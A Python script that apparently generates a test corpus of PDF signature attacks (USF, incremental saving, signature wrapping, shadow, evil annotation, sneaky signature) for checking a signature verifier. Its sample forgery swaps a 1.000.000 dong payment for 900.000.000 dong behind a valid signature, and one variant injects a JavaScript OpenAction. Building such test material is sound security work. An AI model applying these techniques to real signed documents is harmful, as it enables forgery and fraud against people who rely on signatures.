#!/usr/bin/env python3
"""Builds the PDF signature attack files (USF, ISA, SWA 2019; shadow attacks
2021; evil annotation and sneaky signature 2021) from validly signed PDFs.

    make_attacks.py base OUT.pdf [--rich]
        writes the one-page base document: visible text, a text hidden under
        a white overlay (object 11), and a whole "shadow" document (objects
        7-10) that the file carries without using. --rich adds content
        using most content operators (objects 12-14), for fuzz seeds.
    make_attacks.py certify IN.pdf OUT.pdf --key K --cert C [--chain CH] [--p N] [--placeholder HEXDIGITS]
                    [--subfilter ETSI.CAdES.detached|adbe.pkcs7.sha1|ETSI.RFC3161]
        certifies IN (DocMDP level N, default 2; 0 = an approval signature
        instead) with `openssl cms`; adbe.pkcs7.sha1 signs the SHA-1 of the
        ranges (legacy); ETSI.RFC3161 makes a document timestamp with
        `openssl ts` (K and C are then the TSA's key and certificate).
    make_attacks.py attacks SIGNED.pdf CERTIFIED.pdf OUTDIR
        writes OUTDIR/<name>.pdf for every attack; SIGNED is the base signed
        once (e.g. by pdfsig), CERTIFIED the base certified with P=2.
    make_attacks.py covers BASE.pdf OUTDIR --key K --cert C [--chain CH] [--placeholder HEXDIGITS]
        writes OUTDIR/covers-*.pdf: certifications (P=2, P=3) of BASE followed
        by a visible approval signature or annotation, either in a blank area
        (allowed) or over the certified text (sneaky signature, evil
        annotation).

Python standard library and the openssl command only. The expected verdict
of each attack is in expected/<name>.txt next to this script.
"""
import os
import re
import subprocess
import sys
import tempfile
import time

# ---------------------------------------------------------------- helpers --


def last_startxref(data):
    m = list(re.finditer(rb"startxref\s+(\d+)", data))
    return int(m[-1].group(1))


def last_trailer_value(data, key):
    """The /Root or /Size of the newest trailer (a classic trailer)."""
    m = list(re.finditer(rb"trailer\s*<<(.*?)>>\s*startxref", data, re.S))
    if not m:
        raise SystemExit("no classic trailer found")
    t = m[-1].group(1)
    if key == "Size":
        return int(re.search(rb"/Size\s+(\d+)", t).group(1))
    r = re.search(rb"/" + key.encode() + rb"\s+(\d+)\s+(\d+)\s+R", t)
    return int(r.group(1)) if r else None


def newest_object(data, num):
    """The body of the newest `num 0 obj` definition (between obj/endobj)."""
    m = list(re.finditer(rb"(?<![0-9])" + str(num).encode() + rb"\s+(\d+)\s+obj(.*?)endobj", data, re.S))
    if not m:
        raise SystemExit("object %d not found" % num)
    return m[-1].group(2).strip()


def append_update(data, objects, free=(), root=None, extra_trailer=b""):
    """An incremental update: objects is [(num, body_bytes)], free lists
    object numbers to mark free. Classic xref table, /Prev chained."""
    prev = last_startxref(data)
    size = last_trailer_value(data, "Size")
    root = root if root is not None else last_trailer_value(data, "Root")
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num, body in objects:
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
        size = max(size, num + 1)
    xref_at = len(out)
    entries = {0: b"0000000000 65535 f \n"}
    for num in free:
        entries[num] = b"0000000000 00001 f \n"
    for num, off in offsets.items():
        entries[num] = b"%010d 00000 n \n" % off
    out += b"xref\n"
    nums = sorted(entries)
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        out += b"%d %d\n" % (nums[i], j - i + 1)
        for n in nums[i:j + 1]:
            out += entries[n]
        i = j + 1
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, prev, extra_trailer, xref_at)
    return bytes(out)


def stream(content, extra=b""):
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def signature_span(data):
    """(start of '/ByteRange [', end of ']', /Contents '<' offset, '>' end)
    of the newest signature dictionary."""
    br = list(re.finditer(rb"/ByteRange\s*\[([0-9 \-]+)\]", data))[-1]
    c = list(re.finditer(rb"/Contents\s*<([0-9A-Fa-f]*)>", data))[-1]
    return br, c


def set_byterange(data, br, values):
    """Rewrites the ByteRange text in place, same length (padded)."""
    text = b"/ByteRange [" + b" ".join(b"%d" % v for v in values) + b"]"
    old_len = br.end() - br.start()
    if len(text) > old_len:
        raise SystemExit("ByteRange text does not fit")
    text = text[:-1] + b" " * (old_len - len(text)) + b"]"
    return data[:br.start()] + text + data[br.end():]


# ------------------------------------------------------------------ base --

# --rich: more of the content operators (curves, cm, TJ, ' and ", a Type0
# font, a form XObject, an inline image, marked content), all above y 690,
# so a fuzzer starts from content that reaches every part of the estimator.
RICH = (b"q 0.5 0 0 0.5 300 800 cm 0 0 m 10 20 30 40 50 0 c 20 30 40 10 v 40 40 60 60 y h 2 w S Q\n"
        b"BT /F1 12 Tf 1 0 0 1 300 805 Tm 14 TL [(A) -250 (B)] TJ T* (C) ' 2 1 (D) \" "
        b"50 Tz 1 Tc 2 Tw 3 Ts 0 Tr (E F) Tj 3 Tr (G) Tj 0 Tr ET\n"
        b"q 20 0 0 20 500 800 cm BI /W 2 /H 2 /BPC 8 /CS /G ID \x00\xff\x80\x40 EI Q\n"
        b"q 1 0 0 1 400 780 cm /Fx1 Do Q\n"
        b"/Span << /MCID 0 >> BDC BT /F2 10 Tf 400 770 Td <00410042> Tj ET EMC\n")


def make_base(out_path, rich=False):
    visible = b"BT /F1 20 Tf 72 760 Td (Cong van so 15/UBND: chi tam ung 1.000.000 dong) Tj ET\n"
    hidden = b"BT /F1 20 Tf 72 700 Td (Bo sung: chi them 900.000.000 dong) Tj ET\n"
    overlay = b"q 1 1 1 rg 60 690 480 40 re f Q\n"
    shadow = b"BT /F1 20 Tf 72 760 Td (Cong van so 15/UBND: chi tam ung 900.000.000 dong) Tj ET\n"
    resources = b"<< /Font << /F1 5 0 R >> >>"
    if rich:
        resources = b"<< /Font << /F1 5 0 R /F2 13 0 R >> /XObject << /Fx1 12 0 R >> >>"
    objs = [
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources " + resources + b" "
            b"/Contents [4 0 R 11 0 R] >>"),
        (4, stream(visible + hidden + (RICH if rich else b""))),
        (5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"),
        (6, b"<< /Producer (vbsig attack generator) /Title (Cong van) >>"),
        # the shadow document: present, listed in the xref, used by nothing
        (7, stream(shadow)),
        (8, b"<< /Type /Page /Parent 9 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
            b"/Contents 7 0 R >>"),
        (9, b"<< /Type /Pages /Kids [8 0 R] /Count 1 >>"),
        (10, b"<< /Type /Catalog /Pages 9 0 R >>"),
        (11, stream(overlay)),
    ]
    if rich:
        objs += [
            (12, stream(b"0 0 1 rg 0 0 50 20 re f BT /F1 8 Tf 2 6 Td (X) Tj ET",
                        b"/Type /XObject /Subtype /Form /BBox [0 0 50 20] /Resources << /Font << /F1 5 0 R >> >> ")),
            (13, b"<< /Type /Font /Subtype /Type0 /BaseFont /Helvetica /Encoding /Identity-H /DescendantFonts [14 0 R] >>"),
            (14, b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Helvetica /CIDSystemInfo << /Registry (Adobe) "
                 b"/Ordering (Identity) /Supplement 0 >> /W [65 [500 600]] /DW 1000 >>"),
        ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num, body in objs:
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for num in range(1, len(objs) + 1):
        out += b"%010d 00000 n \n" % offsets[num]
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref_at)
    with open(out_path, "wb") as f:
        f.write(out)


# ------------------------------------------------------------- certifying --

def cms_sign(data_bytes, key, cert, chain):
    with tempfile.TemporaryDirectory() as d:
        src, dst = os.path.join(d, "in"), os.path.join(d, "out")
        with open(src, "wb") as f:
            f.write(data_bytes)
        cmd = ["openssl", "cms", "-sign", "-binary", "-cades", "-md", "sha256", "-in", src, "-signer", cert,
               "-inkey", key, "-outform", "DER", "-out", dst, "-nosmimecap"]
        if chain:
            cmd += ["-certfile", chain]
        subprocess.run(cmd, check=True)
        with open(dst, "rb") as f:
            return f.read()


def cms_sign_sha1(data_bytes, key, cert, chain):
    """adbe.pkcs7.sha1: an attached SignedData whose content is the SHA-1
    digest of the signed bytes."""
    import hashlib
    with tempfile.TemporaryDirectory() as d:
        src, dst = os.path.join(d, "in"), os.path.join(d, "out")
        with open(src, "wb") as f:
            f.write(hashlib.sha1(data_bytes).digest())
        cmd = ["openssl", "cms", "-sign", "-binary", "-nodetach", "-md", "sha256", "-in", src, "-signer", cert,
               "-inkey", key, "-outform", "DER", "-out", dst, "-nosmimecap"]
        if chain:
            cmd += ["-certfile", chain]
        subprocess.run(cmd, check=True)
        with open(dst, "rb") as f:
            return f.read()


def timestamp_token(data_bytes, key, cert, chain):
    """ETSI.RFC3161: a timestamp token (openssl ts) over the signed bytes."""
    with tempfile.TemporaryDirectory() as d:
        src, q, tok, cnf = (os.path.join(d, n) for n in ("in", "q.tsq", "tok.der", "ts.cnf"))
        with open(src, "wb") as f:
            f.write(data_bytes)
        with open(cnf, "w") as f:
            f.write("[tsa]\ndefault_tsa = t\n[t]\nserial = %s\ndefault_policy = 1.2.3.4.1\n"
                    "digests = sha256\nsigner_digest = sha256\ness_cert_id_alg = sha256\n"
                    "accuracy = secs:1\nordering = no\ntsa_name = no\ness_cert_id_chain = no\n"
                    % os.path.join(d, "serial"))
        with open(os.path.join(d, "serial"), "w") as f:
            f.write("01\n")
        subprocess.run(["openssl", "ts", "-query", "-data", src, "-sha256", "-cert", "-no_nonce", "-out", q],
                       check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        cmd = ["openssl", "ts", "-reply", "-config", cnf, "-queryfile", q, "-inkey", key, "-signer", cert,
               "-token_out", "-out", tok]
        if chain:
            cmd += ["-chain", chain]
        subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        with open(tok, "rb") as f:
            return f.read()


def sign_update(data, key, cert, chain, p=None, name=b"Cert1", rect=b"[0 0 0 0]", subfilter=b"ETSI.CAdES.detached",
                placeholder_len=16384, visible=False):
    """Adds a signature field to page 3 of the base document and signs the
    result: DocMDP level p when given (a certification). visible gives the
    widget an appearance (a framed box with the signer's name) at rect."""
    size = last_trailer_value(data, "Size")
    root = last_trailer_value(data, "Root")
    acro, field, sig, ap = size, size + 1, size + 2, size + 3
    reference = b""
    perms = b""
    if p is not None:
        reference = (b"/Reference [<< /Type /SigRef /TransformMethod /DocMDP /TransformParams "
                     b"<< /Type /TransformParams /P %d /V /1.2 >> >>] " % p)
        perms = b"/Perms << /DocMDP %d 0 R >> " % sig
    catalog = newest_object(data, root)
    objs = []
    m = re.search(rb"/AcroForm\s+(\d+)\s+0\s+R", catalog)
    if m:  # reuse the document's AcroForm: one more field
        acro = int(m.group(1))
        form = newest_object(data, acro)
        fields = re.search(rb"/Fields\s*\[([^\]]*)\]", form)
        form = form[:fields.start()] + b"/Fields [" + fields.group(1) + b" %d 0 R]" % field + form[fields.end():]
        if perms:
            catalog = catalog[:catalog.rindex(b">>")] + perms + b">>"
            objs.append((root, catalog))
        objs.append((acro, form))
    else:
        catalog = catalog[:catalog.rindex(b">>")] + b"/AcroForm %d 0 R %s>>" % (acro, perms)
        objs += [(root, catalog), (acro, b"<< /Fields [%d 0 R] /SigFlags 3 >>" % field)]
    page = newest_object(data, 3)
    annots = re.search(rb"/Annots\s*(\[([^\]]*)\]|(\d+)\s+0\s+R)", page)
    if annots is None:
        objs.append((3, page[:page.rindex(b">>")] + b"/Annots [%d 0 R] >>" % field))
    elif annots.group(3):  # an indirect /Annots array
        arr_num = int(annots.group(3))
        arr = newest_object(data, arr_num)
        objs.append((arr_num, arr[:arr.rindex(b"]")] + b" %d 0 R]" % field))
    else:
        objs.append((3, page[:annots.start()] + b"/Annots [" + annots.group(2) + b" %d 0 R]" % field +
                     page[annots.end():]))
    placeholder = b"0" * placeholder_len
    when = time.strftime("D:%Y%m%d%H%M%SZ", time.gmtime()).encode()
    sigtype = b"DocTimeStamp" if subfilter == b"ETSI.RFC3161" else b"Sig"
    sigdict = (b"<< /Type /" + sigtype + b" /Filter /Adobe.PPKLite /SubFilter /" + subfilter + b" /M (" + when + b") " +
               reference + b"/ByteRange [0 0000000000 0000000000 0000000000] /Contents <" + placeholder + b"> >>")
    look = b""
    if visible:
        x0, y0, x1, y1 = (float(v) for v in rect.strip(b"[]").split())
        w, h = abs(x1 - x0), abs(y1 - y0)
        look = b" /AP << /N %d 0 R >>" % ap
        objs.append((ap, stream(b"q 0 0 1 RG 1 w 0.5 0.5 %.1f %.1f re S Q BT /Helv 10 Tf 4 %.1f Td (Ky boi: %s) Tj ET" % (
            w - 1, h - 1, h / 2 - 4, name), b"/Type /XObject /Subtype /Form /BBox [0 0 %.1f %.1f] "
                                           b"/Resources << /Font << /Helv << /Type /Font /Subtype /Type1 "
                                           b"/BaseFont /Helvetica >> >> >> " % (w, h))))
    objs += [
        (field, b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (" + name + b") /Rect " + rect +
         b" /F 132 /P 3 0 R /V %d 0 R" % sig + look + b" >>"),
        (sig, sigdict),
    ]
    out = append_update(data, objs)
    br, c = signature_span(out)
    a, b = c.start(1) - 1, c.end(1) + 1
    values = [0, a, b, len(out) - b]
    out = set_byterange(out, br, values)
    signer = {b"adbe.pkcs7.sha1": cms_sign_sha1, b"ETSI.RFC3161": timestamp_token}.get(subfilter, cms_sign)
    der = signer(out[:a] + out[b:], key, cert, chain)
    hexsig = der.hex().encode()
    if len(hexsig) > len(placeholder):
        raise SystemExit("signature larger than the placeholder")
    hexsig += b"0" * (len(placeholder) - len(hexsig))
    return out[:a + 1] + hexsig + out[b - 1:]


# ---------------------------------------------------------------- attacks --

def attacks(signed, certified):
    a = {}
    br, c = signature_span(signed)
    gap_a, gap_b = c.start(1) - 1, c.end(1) + 1
    n = len(signed)
    # USF: the signature says nothing usable about what it signed
    a["usf-no-byterange"] = signed[:br.start()] + b"/ByteRangX" + signed[br.start() + 10:]
    a["usf-three-values"] = set_byterange(signed, br, [0, gap_a, gap_b])
    a["usf-negative"] = set_byterange(signed, br, [0, -1, gap_b, n - gap_b])
    a["usf-beyond-64-bits"] = set_byterange(signed, br, [0, gap_a + 2**64, gap_b, n - gap_b])
    a["usf-overlapping"] = set_byterange(signed, br, [0, gap_b, gap_a, n - gap_a])
    a["usf-contents-outside-gap"] = set_byterange(signed, br, [0, gap_a - 40, gap_a - 20, n - (gap_a - 20)])
    a["usf-not-revision-end"] = set_byterange(signed, br, [0, gap_a, gap_b, n - gap_b - 30])
    # ISA: an incremental update after the signature changes what is shown
    a["isa-page-content"] = append_update(signed, [(4, stream(
        b"BT /F1 20 Tf 72 760 Td (Cong van so 15/UBND: chi tam ung 900.000.000 dong) Tj ET\n"))])
    catalog_num = last_trailer_value(signed, "Root")
    cat = newest_object(signed, catalog_num)
    cat = cat[:cat.rindex(b">>")] + b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    a["isa-catalog"] = append_update(signed, [(catalog_num, cat)])
    # SWA: the signature dictionary redefined around the same signed bytes
    sig_body = newest_object(signed, int(re.findall(rb"/V\s+(\d+)\s+0\s+R", signed)[-1]))
    sig_num = int(re.findall(rb"/V\s+(\d+)\s+0\s+R", signed)[-1])
    a["swa-redefined-sigdict"] = append_update(signed, [(sig_num, sig_body), (4, stream(
        b"BT /F1 20 Tf 72 760 Td (Cong van so 15/UBND: chi tam ung 900.000.000 dong) Tj ET\n"))])
    a["swa-gap-widened"] = set_byterange(signed, br, [0, gap_a - 64, gap_b, n - gap_b])
    # shadow attacks
    a["shadow-hide"] = append_update(signed, [], free=[11])
    a["shadow-replace"] = append_update(signed, [(5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier "
                                                    b"/Encoding /WinAnsiEncoding >>")])
    a["shadow-hide-and-replace"] = append_update(signed, [], root=10)
    # certification attacks (DocMDP P=2)
    size = last_trailer_value(certified, "Size")
    page = newest_object(certified, 3)
    annots = re.search(rb"/Annots\s*\[([^\]]*)\]", page)
    ap = size + 1
    page_evil = page[:annots.start()] + b"/Annots [" + annots.group(1) + b" %d 0 R]" % size + page[annots.end():]
    a["evil-annotation"] = append_update(certified, [
        (3, page_evil),
        (size, b"<< /Type /Annot /Subtype /FreeText /Rect [60 750 540 790] /Contents (chi tam ung 900.000.000 dong) "
               b"/DA (/Helv 20 Tf 0 g) /AP << /N %d 0 R >> >>" % ap),
        (ap, stream(b"1 1 1 rg 0 0 480 40 re f 0 g BT /Helv 20 Tf 12 12 Td (chi tam ung 900.000.000 dong) Tj ET",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 480 40] ")),
    ])
    acro = newest_object(certified, int(re.findall(rb"/AcroForm\s+(\d+)\s+0\s+R", certified)[-1]))
    acro_num = int(re.findall(rb"/AcroForm\s+(\d+)\s+0\s+R", certified)[-1])
    fields = re.search(rb"/Fields\s*\[([^\]]*)\]", acro)
    acro_sneaky = acro[:fields.start()] + b"/Fields [" + fields.group(1) + b" %d 0 R]" % size + acro[fields.end():]
    a["sneaky-signature"] = append_update(certified, [
        (3, page_evil),
        (acro_num, acro_sneaky),
        (size, b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /Rect [60 750 540 790] /F 4 /P 3 0 R "
               b"/AP << /N %d 0 R >> >>" % ap),
        (ap, stream(b"1 1 1 rg 0 0 480 40 re f 0 g BT /Helv 20 Tf 12 12 Td (chi tam ung 900.000.000 dong) Tj ET",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 480 40] ")),
    ])
    return a


# Where the base page paints (text at y 754-782 and 694-730, from x 60) and
# where it does not (the lower half).
OVER_TEXT = b"[60 750 540 790]"
BLANK = b"[300 100 500 160]"


def add_annotation(data, subtype, rect, text):
    """An unsigned update that puts a visible annotation on page 3."""
    size = last_trailer_value(data, "Size")
    page = newest_object(data, 3)
    annots = re.search(rb"/Annots\s*\[([^\]]*)\]", page)
    page = page[:annots.start()] + b"/Annots [" + annots.group(1) + b" %d 0 R]" % size + page[annots.end():]
    x0, y0, x1, y1 = (float(v) for v in rect.strip(b"[]").split())
    w, h = x1 - x0, y1 - y0
    return append_update(data, [
        (3, page),
        (size, b"<< /Type /Annot /Subtype /" + subtype + b" /Rect " + rect + b" /Contents (" + text + b") "
               b"/DA (/Helv 20 Tf 0 g) /F 4 /AP << /N %d 0 R >> >>" % (size + 1)),
        (size + 1, stream(b"1 1 1 rg 0 0 %.1f %.1f re f 0 g BT /Helv 20 Tf 12 12 Td (" % (w, h) + text + b") Tj ET",
                          b"/Type /XObject /Subtype /Form /BBox [0 0 %.1f %.1f] " % (w, h))),
    ])


def covers(base, key, cert, chain, placeholder_len=16384):
    """Certified documents with a later visible signature or annotation,
    in a blank area or over the certified text."""
    p2 = sign_update(base, key, cert, chain, p=2, placeholder_len=placeholder_len)
    p3 = sign_update(base, key, cert, chain, p=3, placeholder_len=placeholder_len)
    return {
        "covers-approval-blank": sign_update(p2, key, cert, chain, name=b"Approval2", rect=BLANK, visible=True,
                                             placeholder_len=placeholder_len),
        "covers-approval-over-text": sign_update(p2, key, cert, chain, name=b"Approval2", rect=OVER_TEXT,
                                                 visible=True, placeholder_len=placeholder_len),
        "covers-p3-annotation-over-text": add_annotation(p3, b"FreeText", OVER_TEXT, b"chi tam ung 900.000.000 dong"),
        "covers-p3-annotation-blank": add_annotation(p3, b"Stamp", BLANK, b"Da xem"),
    }


def main(argv):
    if len(argv) >= 3 and argv[1] == "base":
        make_base(argv[2], rich="--rich" in argv[3:])
    elif len(argv) >= 4 and argv[1] == "certify":
        opts = dict(zip(argv[4::2], argv[5::2]))
        with open(argv[2], "rb") as f:
            data = f.read()
        level = int(opts.get("--p", "2"))
        out = sign_update(data, opts["--key"], opts["--cert"], opts.get("--chain"), p=level if level > 0 else None,
                          name=b"Cert1" if level > 0 else b"Approval1",
                          subfilter=opts.get("--subfilter", "ETSI.CAdES.detached").encode(),
                          placeholder_len=int(opts.get("--placeholder", "16384")))
        with open(argv[3], "wb") as f:
            f.write(out)
    elif len(argv) == 5 and argv[1] == "attacks":
        with open(argv[2], "rb") as f:
            signed = f.read()
        with open(argv[3], "rb") as f:
            certified = f.read()
        os.makedirs(argv[4], exist_ok=True)
        for name, data in attacks(signed, certified).items():
            with open(os.path.join(argv[4], name + ".pdf"), "wb") as f:
                f.write(data)
    elif len(argv) >= 4 and argv[1] == "covers":
        opts = dict(zip(argv[4::2], argv[5::2]))
        with open(argv[2], "rb") as f:
            base = f.read()
        os.makedirs(argv[3], exist_ok=True)
        for name, data in covers(base, opts["--key"], opts["--cert"], opts.get("--chain"),
                                 int(opts.get("--placeholder", "16384"))).items():
            with open(os.path.join(argv[3], name + ".pdf"), "wb") as f:
                f.write(data)
    else:
        sys.stderr.write(__doc__)
        return 64
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
